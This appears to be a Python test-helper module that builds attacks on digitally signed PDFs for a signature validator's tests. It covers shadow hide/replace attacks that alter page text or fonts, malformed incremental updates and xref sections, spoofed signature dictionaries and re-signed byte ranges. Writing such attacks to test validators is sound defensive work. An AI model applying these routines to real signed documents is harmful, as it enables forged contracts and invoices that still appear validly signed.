"""Hand-crafted PDF structure attacks for the tests: raw bytes appended to a signed PDF.

Written by hand on purpose: PDF libraries write well-formed files, and these attacks are exactly the
files they would never write (objects without a cross-reference section, a ``startxref`` pointing at
the wrong place, an xref stream whose data is broken, an xref entry re-pointed into signed bytes).
"""

from __future__ import annotations

import io
import re
import zlib
from dataclasses import dataclass
from typing import Any

import pikepdf

STARTXREF = re.compile(rb"startxref\s+(\d+)\s*%%EOF")


@dataclass(frozen=True)
class Layout:
    """Object numbers of a (signed) PDF that the attacks redefine."""

    root: int
    pages: int
    first_page: int
    content: int
    font: int
    sig: int  # the first signature dictionary
    size: int  # next free object number
    startxref: int  # of the last revision


def layout(data: bytes) -> Layout:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0].obj
        form = pdf.Root.get("/AcroForm")
        sig = form.Fields[0].V.objgen[0] if form is not None else 0
        return Layout(
            root=pdf.Root.objgen[0],
            pages=pdf.Root.Pages.objgen[0],
            first_page=page.objgen[0],
            content=page.Contents.objgen[0],
            font=page.Resources.Font.F1.objgen[0],
            sig=sig,
            size=int(pdf.trailer.Size),
            startxref=int(STARTXREF.findall(data)[-1]),
        )


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(content), extra, content)


def text_stream(text: str) -> bytes:
    return stream(f"BT /F1 14 Tf 72 760 Td ({text}) Tj ET".encode("latin-1"))


def added_page(lay: Layout, text: str = "Annexe: prix 1 EUR") -> dict[int, bytes]:
    """A new page appended to the page tree (the page tree node redefined with the same number)."""
    page, content = lay.size, lay.size + 1
    return {
        lay.pages: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (lay.first_page, page),
        page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (lay.pages, content, lay.font),
        content: text_stream(text),
    }


def replaced_content(lay: Layout, text: str = "Prix total: 1 EUR") -> dict[int, bytes]:
    """Page 1's content stream object redefined (shadow "replace")."""
    return {lay.content: text_stream(text)}


def _objects(objects: dict[int, bytes], at: int) -> tuple[bytes, dict[int, int]]:
    out, offsets = b"", {}
    for num, body in objects.items():
        offsets[num] = at + len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    return out, offsets


def xref_table(offsets: dict[int, int]) -> bytes:
    rows = b"xref\n0 1\n0000000000 65535 f \n"
    for num in sorted(offsets):
        rows += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    return rows


def append_update(
    data: bytes, objects: dict[int, bytes], mode: str = "valid", hidden: dict[int, bytes] | None = None
) -> bytes:
    """``data`` with ``objects`` appended as an incremental update whose cross-reference part is ``mode``:

    - ``valid``: a correct xref table, trailer, startxref and %%EOF (a real incremental update);
    - ``none``: the objects alone, nothing after them;
    - ``eof_only``: the objects and a bare ``%%EOF``;
    - ``old_startxref``: the objects, then ``startxref`` pointing back at the signed revision's xref;
    - ``bad_startxref``: a correct xref table and trailer, but ``startxref`` points into the objects;
    - ``no_trailer``: an xref table with no trailer dictionary after it;
    - ``no_prev``: a correct xref table and trailer without /Prev (the signed revisions cut off);
    - ``broken_xref_stream``: a cross-reference stream whose compressed data is garbage.

    ``hidden`` objects are written before the others but listed in no cross-reference section.
    """
    lay = layout(data)
    if not data.endswith(b"\n"):
        data += b"\n"
    shadow, _ = _objects(hidden or {}, len(data))
    data += shadow
    body, offsets = _objects(objects, len(data))
    out = data + body
    size = max(lay.size, max(objects) + 1)
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size, lay.root, lay.startxref)
    if mode == "none":
        return out
    if mode == "eof_only":
        return out + b"%%EOF\n"
    if mode == "old_startxref":
        return out + b"startxref\n%d\n%%%%EOF\n" % lay.startxref
    if mode in {"valid", "bad_startxref"}:
        start = len(out)
        pointer = start if mode == "valid" else offsets[min(offsets)] + 3
        return out + xref_table(offsets) + trailer + b"startxref\n%d\n%%%%EOF\n" % pointer
    if mode == "no_prev":  # a well-formed section that does not chain to the signed revisions
        start = len(out)
        alone = b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (size, lay.root)
        return out + xref_table(offsets) + alone + b"startxref\n%d\n%%%%EOF\n" % start
    if mode == "no_trailer":
        start = len(out)
        return out + xref_table(offsets) + b"startxref\n%d\n%%%%EOF\n" % start
    if mode == "broken_xref_stream":
        start = len(out)
        garbage = zlib.compress(b"\x01" * 40)[:-6] + b"\xff\xfe\xfd"
        extra = b"/Type /XRef /Size %d /Root %d 0 R /Prev %d /W [1 4 2] /Filter /FlateDecode " % (
            size + 1,
            lay.root,
            lay.startxref,
        )
        xref_obj = b"%d 0 obj\n%s\nendobj\n" % (size, stream(garbage, extra))
        return out + xref_obj + b"startxref\n%d\n%%%%EOF\n" % start
    raise ValueError(mode)


def xref_only(data: bytes, entries: dict[int, int]) -> bytes:
    """An incremental update made of a cross-reference section alone: object numbers re-pointed at
    offsets of bytes already in the file (the "hide-and-replace" shadow attack swaps in an object the
    signed revision carried unused)."""
    lay = layout(data)
    start = len(data)
    trailer = b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (lay.size, lay.root, lay.startxref)
    return data + xref_table(entries) + trailer + b"startxref\n%d\n%%%%EOF\n" % start


def object_offset(data: bytes, num: int) -> int:
    """Offset of the last ``num 0 obj`` header in ``data``."""
    return [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, data)][-1]


def raw_object(data: bytes, num: int) -> bytes:
    """The body of the last definition of object ``num`` (between ``obj`` and ``endobj``)."""
    start = object_offset(data, num)
    body = data[start : data.index(b"endobj", start)]
    return body.split(b"obj", 1)[1].strip()


def spoofed_signature_dictionary(
    data: bytes, reason: str | None = "Approved", byte_range: bytes | None = None, when: str | None = None
) -> bytes:
    """The signature dictionary object redefined in a later revision: same /Contents, a /Reason added
    (or replaced), optionally another signing time /M or /ByteRange (signature dictionary spoofing)."""
    lay = layout(data)
    body = raw_object(data, lay.sig)
    if reason is not None:
        body = re.sub(rb"/Reason\s*\([^)]*\)", b"", body)
        body = body.replace(b"<<", b"<< /Reason (%s)" % reason.encode("latin-1"), 1)
    if when is not None:
        body = re.sub(rb"/M\s*\([^)]*\)", b"/M (%s)" % when.encode(), body)
    if byte_range is not None:
        body = re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange " + byte_range, body)
    return append_update(data, {lay.sig: body})


def replaced_font(lay: Layout) -> dict[int, bytes]:
    """Page 1's font object redefined (shadow "replace" through a font: glyphs drawn differently)."""
    return {lay.font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier-Bold >>"}


def overlay(lay: Layout, data: bytes, text: str = "Prix: 1 EUR") -> dict[int, bytes]:
    """Page 1 redefined with a new visible FreeText annotation over its text (shadow "hide")."""
    page = raw_object(data, lay.first_page)
    annot = lay.size
    if b"/Annots" in page:
        page = re.sub(rb"/Annots\s*\[", b"/Annots [%d 0 R " % annot, page, count=1)
    else:
        page = page.replace(b"<<", b"<< /Annots [%d 0 R]" % annot, 1)
    return {
        lay.first_page: page,
        annot: b"<< /Type /Annot /Subtype /FreeText /Rect [60 740 500 790] /F 4 /Contents (%s) "
        b"/DA (/Helv 14 Tf 0 g) >>" % text.encode("latin-1"),
    }


BYTE_RANGE = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")


def byte_range(data: bytes) -> tuple[int, int, int, int]:
    """The last signature's /ByteRange."""
    a, b, c, d = (int(v) for v in BYTE_RANGE.findall(data)[-1].split())
    return a, b, c, d


def resign_with_ranges(signed: bytes, signer: Any, ranges: tuple[int, ...]) -> bytes:
    """The last signature re-made by ``signer`` over other byte ranges than the /Contents gap.

    The /ByteRange text is rewritten in place (same width), the digest computed over the new ranges
    and a fresh CMS signature written at the start of the old /Contents placeholder: a signature that
    verifies cryptographically, whose ranges are what the test is about.
    """
    import asyncio
    import hashlib

    match = list(BYTE_RANGE.finditer(signed))[-1]
    _, len1, start2, _ = byte_range(signed)
    width = match.end(1) - match.start(1)
    text = b" ".join(b"%d" % v for v in ranges).ljust(width)
    assert len(text) == width, "the new /ByteRange does not fit in the old one's place"
    data = bytearray(signed[: match.start(1)] + text + signed[match.end(1) :])
    digest = hashlib.sha256()
    for start, length in zip(ranges[::2], ranges[1::2], strict=True):
        digest.update(bytes(data[start : start + length]))
    cms = asyncio.run(signer.async_sign(digest.digest(), "sha256", use_pades=True))
    hex_value = cms.dump().hex().encode()
    assert len(hex_value) < (start2 - len1 - 2) - 40, "no room for the new signature"
    data[len1 + 1 : len1 + 1 + len(hex_value)] = hex_value
    return bytes(data)


def second_field_for_same_signature(signed: bytes, share: bool = False) -> bytes:
    """A later revision adding a signature field "Copy" whose value is a copy of the first signature's
    dictionary (same /ByteRange and /Contents), or, with ``share``, that very dictionary object: one
    signature value shown as two signatures."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    fields = writer.root["/AcroForm"]["/Fields"]
    first = fields[0]
    value_ref = first.raw_get("/V")
    if not share:
        copy = generic.DictionaryObject({k: v for k, v in value_ref.get_object().items()})  # type: ignore[no-untyped-call]
        value_ref = writer.add_object(copy)  # type: ignore[no-untyped-call]
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    field = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/FT"): generic.NameObject("/Sig"),
            generic.NameObject("/T"): generic.TextStringObject("Copy"),
            generic.NameObject("/F"): generic.NumberObject(132),
            generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
            generic.NameObject("/P"): page_ref,
            generic.NameObject("/V"): value_ref,
        }
    )
    field_ref = writer.add_object(field)  # type: ignore[no-untyped-call]
    fields.append(field_ref)
    writer.update_container(fields)  # type: ignore[no-untyped-call]
    page = page_ref.get_object()
    page["/Annots"].append(field_ref)
    writer.update_container(page["/Annots"])  # type: ignore[no-untyped-call]
    out = io.BytesIO()
    writer.write(out)  # type: ignore[no-untyped-call]
    return out.getvalue()
